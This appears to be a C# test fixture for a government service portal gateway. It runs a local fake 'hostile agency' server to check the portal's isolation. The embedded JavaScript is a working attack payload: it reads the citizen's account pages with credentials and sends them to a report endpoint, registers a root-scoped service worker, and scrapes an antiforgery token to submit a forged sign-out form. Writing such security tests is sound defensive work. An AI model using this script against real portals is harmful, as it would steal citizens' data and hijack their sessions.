using System.Collections.Concurrent;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace ServicePortal.Gateway.Tests;

/// <summary>
/// An agency backend gone bad (or an endpoint pointed at an attacker's server), as a real HTTP service: its page
/// runs a script that tries to use the portal's authority: (a) read the citizen's pages (<c>/account</c>,
/// <c>/maombi</c>) and send them home, (c) register a service worker for the whole portal, and (b) post the
/// sign-out form with the citizen's cookie (last, because it leaves the page). What it managed, it reports to
/// <c>report?what=…</c> on its own endpoint, which this class records.
/// </summary>
public sealed class HostileAgency : IAsyncDisposable
{
    private const string Page = """
        <!doctype html>
        <html lang="en"><head><meta charset="utf-8"><title>Agency page</title></head>
        <body><h1>Agency page</h1><script src="app.js"></script></body></html>
        """;

    private const string Script = """
        (async () => {
          const report = (what, text) => fetch('report?what=' + what, { method: 'POST', mode: 'no-cors', body: String(text).slice(0, 20000) });
          for (const [what, path] of [['account', '/account'], ['maombi', '/maombi']]) {
            try {
              const answer = await fetch(path, { credentials: 'include' });
              await report(what, answer.status + ' ' + answer.url + '\n' + await answer.text());
            } catch (e) {
              await report(what, 'refused: ' + e);
            }
          }
          try {
            const registration = await navigator.serviceWorker.register('sw.js', { scope: '/' });
            await report('sw', 'registered ' + registration.scope);
          } catch (e) {
            await report('sw', 'refused: ' + e);
          }
          let token = '';
          try {
            const page = await (await fetch('/account/sign-out', { credentials: 'include' })).text();
            token = new DOMParser().parseFromString(page, 'text/html').querySelector('input[name="__af"]')?.value || '';
          } catch (e) {
          }
          await report('form', token ? 'posting with the antiforgery token' : 'posting without a token');
          const form = document.createElement('form');
          form.method = 'post';
          form.action = '/account/sign-out';
          const field = document.createElement('input');
          field.type = 'hidden';
          field.name = '__af';
          field.value = token;
          form.append(field);
          document.body.append(form);
          form.submit();
        })();
        """;

    private const string ServiceWorker = "self.addEventListener('fetch', () => {});";

    private readonly WebApplication _app;

    private HostileAgency(WebApplication app) => _app = app;

    public Uri Address { get; private set; } = null!;

    /// <summary>What the script reported, by what it tried (<c>account</c>, <c>maombi</c>, <c>sw</c>, <c>form</c>).</summary>
    public ConcurrentDictionary<string, string> Reports { get; } = new(StringComparer.Ordinal);

    /// <summary>Every path asked for, with the <c>Sec-Fetch-*</c> headers the browser sent.</summary>
    public ConcurrentQueue<string> Requests { get; } = new();

    public static async Task<HostileAgency> StartAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.SetMinimumLevel(LogLevel.Warning);
        var app = builder.Build();
        var agency = new HostileAgency(app);
        app.Use((context, next) =>
        {
            agency.Requests.Enqueue($"{context.Request.Method} {context.Request.Path} site={context.Request.Headers["Sec-Fetch-Site"]} " +
                                    $"dest={context.Request.Headers["Sec-Fetch-Dest"]} sw={context.Request.Headers["Service-Worker"]}");
            return next(context);
        });
        app.MapGet("/health", () => "healthy");
        app.MapGet("/page", () => Results.Content(Page, "text/html; charset=utf-8"));
        app.MapGet("/app.js", () => Results.Content(Script, "text/javascript; charset=utf-8"));
        app.MapGet("/sw.js", (HttpContext context) =>
        {
            context.Response.Headers["Service-Worker-Allowed"] = "/";
            return Results.Content(ServiceWorker, "text/javascript; charset=utf-8");
        });
        app.MapPost("/report", async (HttpContext context, string what) =>
        {
            agency.Reports[what] = await new StreamReader(context.Request.Body).ReadToEndAsync(context.RequestAborted);
            return Results.NoContent();
        });
        await app.StartAsync();
        var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        agency.Address = new Uri(address.EndsWith('/') ? address : address + "/");
        return agency;
    }

    public ValueTask DisposeAsync() => _app.DisposeAsync();
}
